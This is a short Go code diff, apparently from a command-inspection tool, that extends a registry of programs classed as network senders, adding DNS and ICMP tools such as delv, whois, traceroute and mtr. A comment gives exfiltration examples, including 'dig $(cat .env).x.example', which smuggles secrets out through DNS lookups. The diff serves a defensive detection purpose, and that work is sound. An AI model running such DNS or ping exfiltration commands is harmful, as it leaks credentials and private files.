@@ -42,8 +42,8 @@ var _ = register(
 	&Program{Name: "smbclient", Kind: NetSender, HostFirst: true},
 	&Program{Name: "mail", Names: []string{"mailx", "sendmail", "mutt", "msmtp", "swaks"}, Kind: NetSender},
 	// DNS and ICMP carry data too: dig $(cat .env).x.example, ping -p HEX.
-	&Program{Name: "dig", Names: []string{"nslookup", "host", "drill", "kdig"}, Kind: NetSender | NonReader},
-	&Program{Name: "ping", Names: []string{"ping6"}, Kind: NetSender | NonReader, Opts: S("cipstwWIlQ")},
+	&Program{Name: "dig", Names: []string{"nslookup", "host", "drill", "kdig", "delv", "whois"}, Kind: NetSender | NonReader},
+	&Program{Name: "ping", Names: []string{"ping6", "traceroute", "traceroute6", "tracepath", "mtr"}, Kind: NetSender | NonReader, Opts: S("cipstwWIlQ")},
 	&Program{Name: "croc", Names: []string{"magic-wormhole", "wormhole"}, Kind: NetSender | Uploader,
 		Uploads: func([]string) bool { return true }},
 )
